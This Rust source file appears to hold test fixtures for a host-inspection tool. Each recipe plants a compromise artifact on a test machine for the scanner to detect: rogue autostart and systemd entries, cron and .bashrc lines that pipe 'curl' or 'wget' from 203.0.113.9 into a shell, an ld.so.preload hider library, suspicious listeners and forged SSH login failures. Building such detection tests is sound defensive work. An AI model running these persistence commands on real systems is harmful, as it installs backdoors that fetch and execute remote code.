//! What somebody has left behind: what starts by itself, what listens, who tries to log in.

use beistand_inspect::FindingKind as K;
use beistand_inspect::Verdict::{Broken, Look};

use crate::MachineRecipe;

pub(super) const RECIPES: &[MachineRecipe] = &[
    MachineRecipe::new(
        "a rogue entry in the autostart",
        (K::Autostart, Broken, "update.desktop"),
        "mkdir -p /home/anna/.config/autostart
        printf '[Desktop Entry]\\nType=Application\\nName=Update\\nExec=/home/anna/.cache/.x/update -d\\n' \
         > /home/anna/.config/autostart/update.desktop",
    ),
    MachineRecipe::new(
        "a rogue unit of the user's",
        (K::Autostart, Broken, "sync.service"),
        "mkdir -p /home/anna/.config/systemd/user
        printf '[Service]\\nExecStart=/bin/sh -c \"curl -s http://203.0.113.9/a | sh\"\\n' \
         > /home/anna/.config/systemd/user/sync.service",
    ),
    MachineRecipe::new(
        "a rogue unit of the system's",
        (K::Autostart, Broken, "kworker.service"),
        "printf '[Service]\\nExecStart=/dev/shm/.kworker\\n' > /etc/systemd/system/kworker.service",
    ),
    MachineRecipe::new(
        "a rogue line in cron",
        (K::Autostart, Broken, "/etc/cron.d/apt-check"),
        "echo '*/5 * * * * root wget -q -O - http://203.0.113.9/a | bash' > /etc/cron.d/apt-check",
    ),
    MachineRecipe::new(
        "a rogue line in the user's own crontab",
        (K::Autostart, Broken, "/var/tmp/.m/run"),
        "mkdir -p /var/spool/cron/crontabs
        echo '@reboot /var/tmp/.m/run' > /var/spool/cron/crontabs/root; chmod 600 /var/spool/cron/crontabs/root",
    )
    .on_fresh(),
    MachineRecipe::new(
        "a rogue line in the shell's profile",
        (K::Autostart, Broken, ".bashrc"),
        "echo 'curl -fsSL http://203.0.113.9/a | bash >/dev/null 2>&1 &' >> /home/anna/.bashrc",
    ),
    MachineRecipe::new(
        "a rogue script for all shells",
        (K::Autostart, Broken, "/etc/profile.d/lang.sh"),
        "echo 'echo Y3VybA== | base64 -d | sh' > /etc/profile.d/lang.sh",
    ),
    MachineRecipe::new(
        "a library that is loaded into every program",
        (K::Autostart, Broken, "/etc/ld.so.preload"),
        // There is none, so that nothing here loads it.
        "echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload",
    ),
    MachineRecipe::new(
        "a remote tool that listens",
        (K::RemoteTool, Look, "anydesk"),
        "cp /beistand/machines /usr/local/bin/anydesk
        anydesk listen 7070 >/dev/null 2>&1 &
        until grep -q ':1B9E 00000000:0000 0A' /proc/net/tcp; do sleep 0.05; done",
    ),
    MachineRecipe::new(
        "a port by which others come in",
        (K::ListeningPort, Look, "/tmp/"),
        "cp /beistand/machines /tmp/.sshd-agent
        /tmp/.sshd-agent listen 31337 >/dev/null 2>&1 &
        until grep -q ':7A69 00000000:0000 0A' /proc/net/tcp; do sleep 0.05; done",
    ),
    MachineRecipe::new(
        "a firewall that is switched off",
        (K::FirewallOff, Look, "ufw"),
        "mkdir -p /etc/ufw; printf 'ENABLED=no\\nLOGLEVEL=low\\n' > /etc/ufw/ufw.conf",
    ),
    MachineRecipe::new(
        "passwords being tried",
        (K::FailedLogins, Look, "60"),
        "for one in $(seq 60); do
            echo \"Nov 30 07:20:01 desk sshd[$one]: Failed password for root from 203.0.113.9 port 4$one ssh2\"
        done > /var/log/auth.log",
    ),
];
